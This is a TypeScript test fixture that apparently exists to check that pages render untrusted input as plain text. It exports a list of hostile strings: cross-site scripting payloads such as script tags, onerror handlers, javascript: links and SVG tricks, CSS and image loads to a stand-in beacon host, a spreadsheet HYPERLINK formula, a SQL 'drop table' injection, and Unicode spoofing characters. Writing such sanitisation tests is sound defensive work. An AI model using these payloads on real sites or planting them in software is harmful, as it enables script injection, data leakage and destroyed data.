/**
 * Texts of our own writing that would run, load or lie if any page treated them as more than text (AT-59). Every one that could run says
 * so on `window.pwned`; every one that could load asks for an address that nobody serves.
 */
export const outside = 'https://beacon.invalid';
const run = 'window.pwned=1';

export const hostileTexts = {
  script: `<script>${run}</script>`,
  endOfScript: `</script><script>${run}</script>`,
  image: `<img src=x onerror="${run}">`,
  loadedImage: `<img src="${outside}/a.png">`,
  svg: `<svg onload=${run}><animate onbegin=${run} attributeName=x dur=1s></svg>`,
  svgScript: `<svg><script href="${outside}/b.js"/><use href="data:image/svg+xml,<svg id=x onload=${run}>#x"/></svg>`,
  math: `<math><mtext><table><mglyph><style><!--</style><img src=x onerror=${run}>`,
  attribute: `" autofocus onfocus=${run} x="`,
  apostrophe: `' onmouseover=${run} '`,
  frame: `<iframe srcdoc="<script>parent.${run.slice(7)}</script>"></iframe>`,
  link: `[click](javascript:${run})`,
  linkInCase: `[click](JaVa\tScRiPt:${run})`,
  anchor: `<a href="javascript:${run}">click</a>`,
  markdownImage: `![beacon](${outside}/c.png?q=1)`,
  referenceImage: `![x][y]\n\n[y]: ${outside}/d.png`,
  style: `<style>@import "${outside}/e.css"; input[value^=a]{background:url(${outside}/f)}</style>`,
  inlineStyle: `<p style="background:url(${outside}/g)">styled</p>`,
  base: `<base href="${outside}/"><meta http-equiv=refresh content="0;url=${outside}">`,
  form: `<form action="${outside}"><button formaction="javascript:${run}">go</button></form>`,
  template: `\${${run}} #{${run}} <%= ${run} %>`,
  constructed: `__proto__ constructor [object Object] toString`,
  comment: `<!--><script>${run}</script>-->`,
  cdata: `<![CDATA[<script>${run}</script>]]>`,
  entities: `&lt;script&gt;${run}&lt;/script&gt; &#60;img src=x&#62;`,
  bidirectional: 'pay \u202eevil\u202c to \u2066hidden\u2069 account',
  zeroWidth: 'in\u200bvis\u200dib\ufeffle',
  tags: 'plain\u{e0041}\u{e0042} text',
  combining: `Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308a\u0334\u0335\u0336l`,
  formula: `=HYPERLINK("${outside}","x")`,
  terminal: '\u001b[31mred\u001b[0m',
  sql: `'; drop table libraries_library; --`,
  page: `<!doctype html><html><body onload="${run}"><script>${run}</script><img src="${outside}/h.png"></body></html>`,
} as const;

/** In one line, without what YAML would refuse: for places that hold one line. */
export const markedText = 'Marked <script>window.pwned=1</script> <img src=x onerror=window.pwned=1>';
